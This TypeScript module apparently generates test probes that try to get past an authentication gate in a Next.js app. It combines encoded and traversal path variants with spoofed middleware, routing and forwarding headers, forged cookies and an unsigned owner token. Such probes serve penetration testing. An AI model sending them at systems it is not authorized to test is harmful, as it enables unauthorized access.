/** A request that tries to bypass the gate, with a raw request target. */
export type Probe = { target: string; method: "GET" | "POST"; headers: Record<string, string> };

const encoded = (text: string) => `%${text.charCodeAt(0).toString(16)}`;
const bytes = (text: string) => Buffer.from(text).toString("latin1");
const wide = (text: string) =>
  bytes(text.replace(/[a-z]/g, (letter) => String.fromCharCode(letter.charCodeAt(0) + 0xfee0)));

/** Other spellings of a path that a router, proxy or file system may treat as equal. */
function spellingsOf(path: string): string[] {
  const rest = path.slice(1);
  const first = rest.charAt(0);
  const letters = [...rest].map((letter) => (letter === "/" ? letter : encoded(letter))).join("");
  return [
    path,
    // Case folding.
    ...[path.toUpperCase(), `/${first.toUpperCase()}${rest.slice(1)}`, wide(path)],
    ...[bytes(path.replace("i", "ı")), bytes(path.replace("s", "ſ"))],
    ...[`${path}/`, `/${path}`, `///${rest}`, `${path}//`, path.replaceAll("/", "//"), `/${rest}/%2f`],
    ...[`/%2f${rest}`, `/%2F${rest}`, `/${rest.replaceAll("/", "%2f")}`, `${path}%2f`, `/%252f${rest}`],
    ...[`/\\${rest}`, `\\${rest}`, `/%5c${rest}`, `${path}%5c`, `/%c0%af${rest}`, `/%ef%bc%8f${rest}`],
    ...[`/.${path}`, `/x/..${path}`, `${path}/.`, `${path}/..${path}`, `/%2e${path}`, `/x/%2e%2e${path}`],
    ...[`/..;${path}`, `/x/..;${path}`, `/..%2f${rest}`, `/login/..${path}`, `/api/..${path}`],
    ...[`/_next/..${path}`, `/_next/static/../..${path}`, `/_next/static/%2e%2e/%2e%2e${path}`],
    // Encoded once and twice.
    ...[
      `/${encoded(first)}${rest.slice(1)}`,
      `/${letters}`,
      `/%25${encoded(first).slice(1)}${rest.slice(1)}`,
    ],
    ...[`${path}.`, `${path};x=1`, `/;${path}`, `${path}%00`, `${path}%20`, `${path}%09`, `${path}%0a`],
    ...[`${path}%3f`, `${path}%23`, `${path}%e2%80%8b`, `${path}.json`, `${path}.html`, `${path}.txt`],
    // Next.js's internal URLs.
    ...[
      `${path}.rsc`,
      `${path}?_rsc=1`,
      `${path}.segments/_tree.segment.rsc`,
      `${path}/page`,
      `${path}/index`,
    ],
    ...[`/_next/data/build${path}.json`, `/(app)${path}`, `/%28app%29${path}`, `${path}?__nextDataReq=1`],
    ...[`${path}?__nextLocale=en`, `/_next/image?url=${encodeURIComponent(path)}&w=64&q=75`],
    ...[`http://localhost${path}`, `//localhost${path}`, `${path}?next=${path}`],
  ];
}

const FIVE = (name: string) => Array.from({ length: 5 }, () => name).join(":");
const TREE = encodeURIComponent(JSON.stringify(["", { children: ["__PAGE__", {}] }, null, null, true]));
/** An unsigned token that claims to be the owner's. */
const UNSIGNED = [{ alg: "none" }, { sub: "owner", role: "service_role", exp: 4e9 }, ""]
  .map((part) => (part ? Buffer.from(JSON.stringify(part)).toString("base64url") : ""))
  .join(".");

const headersFor = (path: string): Record<string, string>[] => [
  {},
  ...["middleware", "src/middleware", "pages/_middleware", "1"].flatMap((name) => [
    { "x-middleware-subrequest": name },
    { "x-middleware-subrequest": FIVE(name) },
  ]),
  ...[{ "x-middleware-prefetch": "1" }, { "x-middleware-rewrite": path }, { "x-middleware-next": "1" }],
  { "x-middleware-override-headers": "x-session-state", "x-middleware-request-x-session-state": "valid" },
  ...[{ "x-session-state": "valid" }, { "x-access": "admin" }, { "x-middleware-invoke": "0" }],
  ...[{ rsc: "1" }, { rsc: "1", "next-router-prefetch": "1" }, { rsc: "1", "next-router-state-tree": TREE }],
  { rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/_tree" },
  { rsc: "1", "next-url": path },
  ...[
    { purpose: "prefetch" },
    { "x-nextjs-data": "1" },
    { accept: "text/x-component" },
    { "next-resume": "1" },
  ],
  ...[
    { "x-matched-path": path },
    { "x-invoke-path": path, "x-invoke-output": path },
    { "x-now-route-matches": "1" },
  ],
  ...[{ "x-original-url": path }, { "x-rewrite-url": path }, { "x-forwarded-uri": path }],
  ...[
    { "x-forwarded-host": "evil.example" },
    { "x-forwarded-for": "127.0.0.1" },
    { "x-real-ip": "127.0.0.1" },
  ],
  ...[{ "x-prerender-revalidate": "1" }, { "x-http-method-override": "POST" }],
  ...[{ cookie: "sb=valid; signed_in=1; staff-role=owner" }, { authorization: `Bearer ${UNSIGNED}` }],
  { cookie: `sb=${encodeURIComponent(JSON.stringify({ access_token: UNSIGNED }))}` },
];

/** Returns each spelling of a path with each set of headers, plus calls to unknown server actions. */
export function probesFor(path: string): Probe[] {
  const spellings = spellingsOf(path);
  const reads = spellings.flatMap((target) =>
    headersFor(path).map((headers): Probe => ({ target, method: "GET", headers })),
  );
  const actions = spellings.map((target): Probe => {
    return {
      target,
      method: "POST",
      headers: { "next-action": "0".repeat(42), "content-type": "text/plain" },
    };
  });
  return [...reads, ...actions];
}
